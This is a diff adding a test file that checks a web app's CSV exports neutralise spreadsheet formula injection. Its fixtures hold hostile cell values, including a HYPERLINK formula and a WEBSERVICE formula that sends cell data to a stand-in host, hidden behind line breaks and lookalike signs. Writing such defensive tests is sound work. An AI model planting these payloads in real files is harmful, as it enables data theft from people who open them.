@@ -1,0 +1,79 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { jsonHeaders, loginAs } from './auth-helpers.ts';
+import { rawCells, readCsv } from './export-csv-helpers.ts';
+import { startTestApp, type TestApp } from './test-app.ts';
+
+// What an official can type into the forms: the status note of the fault report, and titles and summaries that
+// hide a formula behind a bare line break, the other separator, or a fullwidth sign.
+const note = 'Проверено на месте\n=1+2';
+const hostile = {
+  id: 'hostile-cells',
+  kind: 'practice',
+  title: { ru: 'Заголовок\r=HYPERLINK("http://e.x")', en: 'x;=WEBSERVICE("http://e.x/?"&A1)' },
+  summary: { ru: '＝1+2', en: '@SUM(1)\n-2+3' },
+  ownerId: 'senate',
+  region: 'KZ-AKT',
+  tags: [],
+  noSource: true,
+};
+
+describe('hostile cells typed by an official, exported as CSV', () => {
+  let app: TestApp;
+
+  beforeAll(async () => {
+    app = await startTestApp();
+    const cookie = await loginAs(app, 'admin');
+    const created = await app.fetch('/api/initiatives', {
+      method: 'POST',
+      headers: jsonHeaders(cookie),
+      body: JSON.stringify(hostile),
+    });
+    expect(created.status, await created.clone().text()).toBe(201);
+    const { version } = await app.json(`/api/initiatives/${hostile.id}`);
+    const patched = await app.fetch(`/api/initiatives/${hostile.id}`, {
+      method: 'PATCH',
+      headers: jsonHeaders(cookie),
+      body: JSON.stringify({ version, status: 'in_progress', note }),
+    });
+    expect(patched.status).toBe(200);
+  });
+  afterAll(() => app.close());
+
+  it.each([',', ';'] as const)(
+    'when history.csv holds a note with a bare line break (sep %j), then the row stays whole and the raw cell starts the formula with an apostrophe',
+    async (sep) => {
+      const file = await readCsv(
+        await app.fetch(`/api/export/history.csv?initiative=${hostile.id}&sep=${encodeURIComponent(sep)}`),
+        sep,
+      );
+      expect(file.records.map((r) => r.note)).toContain(note);
+      expect(file.text).toContain(`"Проверено на месте\n'=1+2"`);
+      expect(rawCells(file, sep)).toContain("Проверено на месте\n'=1+2");
+    },
+  );
+
+  it.each([',', ';'] as const)(
+    'when initiatives.csv holds hostile titles and summaries (sep %j), then they read back exactly and every raw cell is inert',
+    async (sep) => {
+      for (const lang of ['ru', 'en'] as const) {
+        const file = await readCsv(
+          await app.fetch(`/api/export/initiatives.csv?owner=senate&lang=${lang}&sep=${encodeURIComponent(sep)}`),
+          sep,
+        );
+        const row = file.records.find((r) => r.id === hostile.id);
+        expect(row?.title).toBe(hostile.title[lang]);
+        expect(row?.summary).toBe(hostile.summary[lang]);
+      }
+      const ru = await readCsv(await app.fetch(`/api/export/initiatives.csv?owner=senate&sep=${encodeURIComponent(sep)}`), sep);
+      expect(rawCells(ru, sep)).toEqual(expect.arrayContaining(['Заголовок\r\'=HYPERLINK("http://e.x")', "'＝1+2"]));
+      const en = await readCsv(
+        await app.fetch(`/api/export/initiatives.csv?owner=senate&lang=en&sep=${encodeURIComponent(sep)}`),
+        sep,
+      );
+      expect(rawCells(en, sep)).toEqual(
+        expect.arrayContaining(['x;\'=WEBSERVICE("http://e.x/?"&A1)', "'@SUM(1)\n'-2+3"]),
+      );
+      expect(en.text).toContain('"x;\'=WEBSERVICE(""http://e.x/?""&A1)"');
+    },
+  );
+});
